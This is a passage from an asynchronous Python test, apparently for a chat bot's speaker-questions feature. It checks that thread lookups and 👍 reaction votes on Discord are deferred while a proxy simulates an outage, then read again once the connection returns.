            await chat.ask("qa setup", **MOD)
            thread = publisher.threads["keynote"].thread_id
            await chat.in_thread("Steam?", user="bob", thread=thread, ref="m-1")
            await proxy.set_mode("refuse")

            about = await chat.ask("about engines")
            assert about.endswith(f"Questions for the speakers: {publisher.threads['keynote'].url}")
            assert await core.qa.item_of_thread("discord", "some-other-thread") is None
            assert (await core.qa.item_of_thread("discord", thread)).slug == "keynote"  # type: ignore[union-attr]
            assert await core.qa.vote_by_message("discord", "m-1", "eve", add=True) == "deferred"
            publisher.reactions["m-1"] = {"eve"}  # the 👍 stays on the platform
            await core.qa.poll_threads()  # still away: waits

            await proxy.set_mode("pass")
            await core.qa.poll_threads()  # back: the reactions are read again
            assert await store.voters(core.db, 1, "discord") == {"eve"}
    finally:
        await proxy.stop()
